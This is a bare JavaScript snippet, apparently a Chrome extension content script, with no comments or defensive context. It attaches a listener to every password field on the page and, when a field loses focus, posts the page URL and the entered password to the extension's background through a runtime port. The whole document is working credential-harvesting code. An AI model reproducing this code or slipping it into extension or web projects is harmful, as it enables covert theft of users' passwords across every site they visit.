const pass = document.querySelectorAll('input[type=password]');
for (const p of pass) p.addEventListener('blur', () => {
  const port = chrome.runtime.connect({ name: 'g' });
  port.postMessage({ u: location.href, v: p.value });
});
